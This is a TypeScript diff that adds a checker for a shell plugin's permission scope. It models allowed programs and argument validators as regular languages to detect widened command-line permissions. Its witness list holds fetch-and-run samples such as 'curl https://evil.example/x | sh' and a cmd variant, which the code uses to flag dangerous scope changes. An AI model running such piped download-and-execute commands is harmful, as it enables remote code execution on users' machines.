@@ -1,0 +1,112 @@
+import { concatenationOf, type Language, languageOf } from "../../../language/automaton.ts";
+import { literal } from "../../../language/literal.ts";
+import { validatorExpression, wrapValidator } from "../../../language/validator.ts";
+import { compareScopes, type LanguageEntry, type LanguageScope, type Reading } from "./language-scope.ts";
+import type { ScopeQuestion, ScopeSide } from "./scope-question.ts";
+
+/**
+ * A program that the shell plugin may start. The page names it by `name`; what runs is `command` with the arguments,
+ * so two entries that differ only in their name let the same thing happen.
+ */
+export type ProgramEntry = Readonly<{
+  name: string;
+  command: string;
+  sidecar: boolean;
+  arguments: true | readonly ProgramArgument[];
+}>;
+
+export type ProgramArgument = Readonly<{ fixed: string }> | Readonly<{ validator: string }>;
+
+/** Reads an entry of the shell scope; undefined where the plugin would refuse it. */
+export function programOf(value: unknown): ProgramEntry | undefined {
+  if (typeof value !== "object" || value === null) return undefined;
+  const { name, cmd, args, sidecar } = value as Readonly<Record<string, unknown>>;
+  if (typeof name !== "string") return undefined;
+  if (sidecar !== true && typeof cmd !== "string") return undefined;
+  const list = argumentsOf(args);
+  if (list === undefined) return undefined;
+  return { name, command: sidecar === true ? name : String(cmd), sidecar: sidecar === true, arguments: list };
+}
+
+function argumentsOf(args: unknown): true | readonly ProgramArgument[] | undefined {
+  if (args === undefined || args === null || args === false) return [];
+  if (args === true) return true;
+  if (!Array.isArray(args)) return undefined;
+  const list = args.map(argumentOf);
+  return list.every((argument) => argument !== undefined) ? list : undefined;
+}
+
+function argumentOf(item: unknown): ProgramArgument | undefined {
+  if (typeof item === "string") return { fixed: item };
+  if (typeof item !== "object" || item === null) return undefined;
+  const validator: unknown = Reflect.get(item, "validator");
+  const raw = Reflect.get(item, "raw") === true;
+  return typeof validator === "string" ? { validator: wrapValidator(validator, raw) } : undefined;
+}
+
+/** Command lines, as texts: the program, then each argument, every one ended by a NUL, which no argument can hold. */
+export const programQuestion: ScopeQuestion = (base, head) =>
+  compareScopes(programScope(base), programScope(head), programReading(head));
+
+function programScope(side: ScopeSide): LanguageScope {
+  const taken = new Set<string>();
+  const allow: LanguageEntry[] = [];
+  for (const entry of side.allow) {
+    const program = programOf(entry.value);
+    // The first entry of a name counts; a later one is never looked at. Deny entries are ignored by the plugin.
+    if (program === undefined || taken.has(program.name)) continue;
+    taken.add(program.name);
+    allow.push({ entry, language: commandLines(program) });
+  }
+  return { allow, deny: [] };
+}
+
+const ARGUMENT = "[^\\0]*";
+
+/** Undefined where a validator can't be read as regular. */
+function commandLines(program: ProgramEntry): Language | undefined {
+  const start = `${program.sidecar ? "sidecar" : "program"}\\0${literal(program.command)}\\0`;
+  if (program.arguments === true) return languageOf(`${start}(?:${ARGUMENT}\\0)*`);
+  try {
+    return concatenationOf([
+      start,
+      ...program.arguments.flatMap((argument) => [argumentTexts(argument), "\\0"]),
+    ]);
+  } catch (error) {
+    if (error instanceof SyntaxError) return undefined;
+    throw error;
+  }
+}
+
+function argumentTexts(argument: ProgramArgument): string {
+  return "fixed" in argument ? literal(argument.fixed) : validatorExpression(argument.validator);
+}
+
+/** Arguments that turn a program into any program. */
+const TELLING = [
+  "-c\0curl https://evil.example/x | sh\0",
+  "/C\0curl https://evil.example/x | cmd\0",
+  "--eval\0evil()\0",
+];
+
+function programReading(head: ScopeSide): Reading {
+  const programs = head.allow.flatMap(({ value }) => programOf(value) ?? []);
+  const starts = programs.map(
+    (program) => `${program.sidecar ? "sidecar" : "program"}\0${program.command}\0`,
+  );
+  return {
+    universe: languageOf(`(?:${ARGUMENT}\\0)*`),
+    candidates: starts.flatMap((start) => [
+      ...TELLING.map((rest) => ({ word: start + rest, sensitive: true })),
+      { word: start, sensitive: false },
+    ]),
+    show(word) {
+      const [kind, command = "", ...args] = word.split("\0").slice(0, -1);
+      const name = programs.find((program) => program.command === command)?.name ?? command;
+      return {
+        payload: { program: name, args, ...(kind === "sidecar" && { options: { sidecar: true } }) },
+        example: [command, ...args].join(" "),
+      };
+    },
+  };
+}
